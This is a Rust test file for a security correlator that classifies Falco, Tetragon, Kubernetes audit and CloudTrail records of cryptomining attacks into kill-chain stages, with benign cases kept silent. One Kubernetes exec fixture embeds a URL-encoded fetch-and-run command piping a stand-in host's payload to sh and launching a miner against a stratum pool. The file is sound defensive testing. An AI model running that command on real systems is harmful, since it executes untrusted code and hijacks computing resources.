//! Classification of real-format records (decoded by ingest) into kill-chain stages, for the
//! attack patterns and evasions of the design, and for the benign activity that must stay quiet.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::Path;

use tidemark_correlator::policy::Policy;
use tidemark_correlator::stage::{Finding, Stage, Strength, classify};
use tidemark_ingest::decode::{self, InputFormat, RecordContext};
use tidemark_ingest::input::{self, Piece};
use tidemark_proto::v1::{RawPointer, Signal};

const POLICY: &str = r#"
approved_registries: [registry.corp.example, docker.io/library]
trusted_pushers: [ci-bot]
trusted_deployers: ["system:serviceaccount:argocd:*", "arn:aws:iam::111122223333:user/ci-deployer"]
"#;

fn policy() -> Policy {
    Policy::from_yaml(POLICY).unwrap()
}

fn decode_text(text: &str) -> Vec<Signal> {
    let ctx = RecordContext::new(
        RawPointer {
            topic: "test".into(),
            ..Default::default()
        },
        1,
    );
    let mut signals = Vec::new();
    for piece in input::split(text.as_bytes()) {
        let Piece::Record { bytes, .. } = piece else {
            panic!("bad JSON in test record")
        };
        signals.extend(
            decode::decode(bytes, InputFormat::Auto, &ctx)
                .unwrap()
                .signals,
        );
    }
    signals
}

fn fixture(path: &str) -> Vec<Signal> {
    let full = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../fixtures")
        .join(path);
    decode_text(&std::fs::read_to_string(full).unwrap())
}

fn findings(signals: &[Signal], policy: &Policy) -> Vec<Finding> {
    signals.iter().flat_map(|s| classify(s, policy)).collect()
}

fn has(findings: &[Finding], stage: Stage, strength: Strength) -> bool {
    findings
        .iter()
        .any(|f| f.stage == stage && f.strength == strength)
}

fn opens_incident(findings: &[Finding]) -> bool {
    findings.iter().any(|f| {
        matches!(f.stage, Stage::Execution | Stage::Impact) && f.strength == Strength::Strong
    })
}

#[test]
fn falco_stratum_alert_is_strong_execution_with_drift() {
    let found = findings(
        &fixture("edge/falco/miner_stratum_appended_fields.json"),
        &policy(),
    );
    assert!(
        has(&found, Stage::Execution, Strength::Strong),
        "{found:#?}"
    );
    assert!(
        has(&found, Stage::Implant, Strength::Weak),
        "drift flag: {found:#?}"
    );
    let execution = found.iter().find(|f| f.stage == Stage::Execution).unwrap();
    assert_eq!(execution.technique, "T1496.001");
}

#[test]
fn renamed_miner_in_tmp_is_caught_by_its_arguments() {
    let found = findings(&fixture("edge/tetragon/kprobe_tcp_connect.json"), &policy());
    let execution = found
        .iter()
        .find(|f| f.stage == Stage::Execution)
        .expect("execution");
    assert!(
        execution.reason.contains("app4821937"),
        "{}",
        execution.reason
    );
    assert!(
        execution.reason.contains("stratum+tcp://"),
        "{}",
        execution.reason
    );
    assert!(
        has(&found, Stage::Implant, Strength::Weak),
        "binary in /tmp: {found:#?}"
    );
}

#[test]
fn pool_on_port_443_is_known_by_its_domain() {
    let alert = r#"{"hostname":"node-1","priority":"Notice","rule":"Outbound connection","source":"syscall","time":"2026-03-02T10:15:04Z","output":"connect","output_fields":{"evt.type":"connect","fd.rip":"198.51.100.99","fd.rport":443,"fd.sip.name":"pool.supportxmr.com","proc.name":"kworkerds","proc.cmdline":"kworkerds","container.id":"3ad7b26ded6d","k8s.ns.name":"shop","k8s.pod.name":"web-7c9d9f6b8-x2l4p"}}"#;
    let found = findings(&decode_text(alert), &policy());
    let impact = found
        .iter()
        .find(|f| f.stage == Stage::Impact)
        .expect("impact");
    assert_eq!(impact.strength, Strength::Strong);
    assert!(
        impact.reason.contains("pool.supportxmr.com:443"),
        "{}",
        impact.reason
    );
}

#[test]
fn pool_port_alone_is_weak_and_web_ports_are_silent() {
    let found = findings(
        &fixture("edge/falco/outbound_miner_pool_connection.json"),
        &policy(),
    );
    // The Falco rule itself is strong evidence; the bare port adds a weak finding.
    assert!(has(&found, Stage::Impact, Strength::Strong), "{found:#?}");
    assert!(
        found
            .iter()
            .any(|f| f.reason.contains("common mining pool port")),
        "{found:#?}"
    );

    let https = r#"{"process_kprobe":{"process":{"exec_id":"e1","binary":"/usr/bin/curl","arguments":"-s https://api.example.com/v1/items","pod":{"namespace":"shop","name":"api-5d8f7b9c6-x2l4p"}},"function_name":"tcp_connect","args":[{"sock_arg":{"daddr":"203.0.113.10","dport":443,"saddr":"10.0.0.5","sport":40000}}]},"node_name":"n1","time":"2026-03-02T10:15:04Z"}"#;
    assert!(findings(&decode_text(https), &policy()).is_empty());
}

#[test]
fn unapproved_image_swapped_in_by_a_person_is_deploy_and_implant() {
    let found = findings(
        &fixture("edge/k8s-audit/set_image_patch_request_level.json"),
        &policy(),
    );
    let deploy = found
        .iter()
        .find(|f| f.stage == Stage::Deploy)
        .expect("deploy");
    assert_eq!(deploy.strength, Strength::Strong);
    assert!(
        deploy.reason.contains("docker.io/yzsqbe/ka:si"),
        "{}",
        deploy.reason
    );
    assert!(deploy.reason.contains("dev-bob"), "{}", deploy.reason);
    assert_eq!(deploy.technique, "T1610");
    let implant = found
        .iter()
        .find(|f| f.stage == Stage::Implant)
        .expect("implant");
    assert_eq!(implant.technique, "T1525");
    assert!(
        !opens_incident(&found),
        "a deploy alone is a precursor, not an incident"
    );
}

#[test]
fn ecs_campaign_task_definition_from_docker_hub_is_unapproved() {
    let found = findings(
        &fixture("edge/cloudtrail/register_task_definition_campaign.json"),
        &policy(),
    );
    let deploy = found
        .iter()
        .find(|f| f.stage == Stage::Deploy)
        .expect("deploy");
    assert!(
        deploy.reason.contains("docker.io/yzsqbe/ka:si"),
        "{}",
        deploy.reason
    );
    assert!(deploy.reason.contains("aws_dev4821"), "{}", deploy.reason);
}

#[test]
fn command_override_with_a_miner_is_execution_even_from_a_trusted_deployer() {
    let found = findings(
        &fixture("edge/cloudtrail/run_task_container_override.json"),
        &policy(),
    );
    assert!(
        has(&found, Stage::Execution, Strength::Strong),
        "{found:#?}"
    );
}

#[test]
fn miner_started_through_exec_into_an_approved_pod_is_implant_and_execution() {
    let exec = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"e-1","stage":"ResponseStarted","requestURI":"/api/v1/namespaces/shop/pods/web-7c9d9f6b8-x2l4p/exec?command=sh&command=-c&command=curl%20-s%20http%3A%2F%2F203.0.113.80%2Fx%20%7C%20sh%3B%20%2Ftmp%2Fx%20-o%20stratum%2Btcp%3A%2F%2Fpool.example.net%3A3333&container=web&stdin=true&tty=true","verb":"create","user":{"username":"dev-bob"},"sourceIPs":["203.0.113.7"],"objectRef":{"resource":"pods","namespace":"shop","name":"web-7c9d9f6b8-x2l4p","subresource":"exec"},"responseStatus":{"code":101},"requestReceivedTimestamp":"2026-03-02T10:15:00Z"}"#;
    let found = findings(&decode_text(exec), &policy());
    let implant = found
        .iter()
        .find(|f| f.stage == Stage::Implant)
        .expect("implant");
    assert_eq!(implant.technique, "T1609");
    assert!(
        implant.reason.contains("exec by dev-bob"),
        "{}",
        implant.reason
    );
    assert!(
        has(&found, Stage::Execution, Strength::Strong),
        "{found:#?}"
    );
}

#[test]
fn pushes_are_judged_by_pusher_and_repository() {
    let push = |pusher: &str, repository: &str| {
        format!(
            r#"{{"events":[{{"id":"p-1","timestamp":"2026-03-02T09:58:10Z","action":"push","target":{{"mediaType":"application/vnd.oci.image.manifest.v1+json","digest":"sha256:{}","repository":"{repository}","tag":"1.4"}},"request":{{"addr":"198.51.100.23:5123","host":"registry.corp.example"}},"actor":{{"name":"{pusher}"}}}}]}}"#,
            "c".repeat(64)
        )
    };
    let trusted = findings(&decode_text(&push("ci-bot", "shop/web")), &policy());
    assert!(trusted.is_empty(), "{trusted:#?}");
    let untrusted = findings(&decode_text(&push("ci-legacy", "shop/web")), &policy());
    let image = untrusted
        .iter()
        .find(|f| f.stage == Stage::Image)
        .expect("image");
    assert!(image.reason.contains("ci-legacy"), "{}", image.reason);
    assert_eq!(image.strength, Strength::Weak);
}

#[test]
fn benign_activity_opens_nothing() {
    let policy = policy();
    // A rollout by the CD controller with an approved image.
    let rollout = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"r-1","stage":"ResponseComplete","verb":"patch","user":{"username":"system:serviceaccount:argocd:argocd-application-controller"},"objectRef":{"resource":"deployments","namespace":"shop","name":"web","apiGroup":"apps"},"responseStatus":{"code":200},"requestObject":{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"registry.corp.example/shop/web:1.5"}]}}}},"requestReceivedTimestamp":"2026-03-02T10:00:00Z"}"#;
    assert!(findings(&decode_text(rollout), &policy).is_empty());
    // An admin exec'ing sh: weak implant evidence only.
    let exec = findings(&fixture("samples/k8s-audit/exec_pod.json"), &policy);
    assert!(!opens_incident(&exec), "{exec:#?}");
    // CPU-heavy processes that are not miners.
    for command in [
        "python3 train.py --epochs 40 --threads 16",
        "ffmpeg -i in.mp4 -threads 16 out.mkv",
        "make -j16",
    ] {
        let record = format!(
            r#"{{"process_exec":{{"process":{{"exec_id":"x","binary":"/usr/bin/{}","arguments":"{}","pod":{{"namespace":"ml","name":"train-0"}}}}}},"node_name":"n1","time":"2026-03-02T10:00:00Z"}}"#,
            command.split(' ').next().unwrap(),
            command.split_once(' ').unwrap().1
        );
        let found = findings(&decode_text(&record), &policy);
        assert!(found.is_empty(), "{command}: {found:#?}");
    }
    // Every real sample is benign.
    for sample in [
        "samples/tetragon/events.json",
        "samples/tetragon/nc_process_connect.json",
        "samples/falco/channels.md.line170.json",
        "samples/k8s-audit/create_deployment.json",
    ] {
        assert!(
            !opens_incident(&findings(&fixture(sample), &policy)),
            "{sample}"
        );
    }
}

#[test]
fn without_approvals_deploys_are_not_judged() {
    let found = findings(
        &fixture("edge/k8s-audit/set_image_patch_request_level.json"),
        &Policy::builtin().unwrap(),
    );
    assert!(
        !found.iter().any(|f| f.stage == Stage::Deploy),
        "{found:#?}"
    );
}
